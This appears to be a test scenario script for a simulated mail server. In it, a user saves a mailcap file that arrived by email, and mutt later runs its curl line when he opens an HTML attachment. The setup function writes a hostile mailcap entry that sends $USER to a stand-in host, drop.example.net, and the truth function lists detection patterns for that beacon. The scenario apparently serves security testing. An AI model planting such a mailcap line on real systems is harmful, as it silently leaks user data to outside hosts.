title="A mailcap out of a message is run by mutt next day"
what="clerk saves a 'better display' mailcap from one message with mutt, reads it and makes it ~/.mailcap. Next day clerk opens an HTML attachment of another, harmless message: mutt runs the mailcap's line by sh, which starts curl to 203.0.113.66 and w3m."
host=mx1.example.org user=clerk daemons="cron sshd" store=mbox shift_plan="arrive:1h save:2h night:14h later:20m"
setup() {
  printf 'text/html; curl -s -m 4 -o /dev/null -d u=$USER http://drop.example.net/mc; w3m -dump -T text/html %%s; copiousoutput\napplication/pdf; mupdf %%s\n' > "$base/out/mailcap.txt"
  printf '<html><body><h1>Offer 12</h1><p>as agreed</p></body></html>' > "$base/out/offer.html"
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\nauto_view text/html\n' > /home/clerk/.muttrc; chown clerk: /home/clerk/.muttrc
}
act() {
  phase arrive
  small_talk 1
  mail_in --from tips@example.com --to clerk@example.org --subject "HTML mails readable in mutt" --source 203.0.113.25 --helo smtp.example.com --text "Save as ~/.mailcap.\n" --attach "$base/out/mailcap.txt:text/plain"
  wait_mail clerk 1
  phase save
  ssh_as clerk <<'L'
%saves mutt
cat mailcap.txt
mv -i mailcap.txt .mailcap
L
  small_talk 1
  phase night
  small_talk 2
  mail_in --from sales@example.net --to clerk@example.org --subject "Offer 12" --source 203.0.113.44 --helo host44.example.net --attach "$base/out/offer.html:text/html"
  sleep 2
  phase later
  ssh_as clerk <<'L'
%line mutt
%sleep 2
%keys *
%keys \n
%sleep 3
%keys i
%keys q
%sleep 1
date
L
  small_talk 1
}
truth() {
  mail_step deliver 'from=<tips@example.com>' 'the message arrives'
  file_step save 'mutt open(at)?:write CREATE .*mailcap.txt' 'saved'
  exec_step place 'mv -i mailcap.txt .mailcap' 'becomes the mailcap'
  exec_step execute '(sh|dash).*curl -s -m 4' 'mutt runs its line'
  net_step beacon 'curl 203.0.113.66:80' 'it calls out'
}
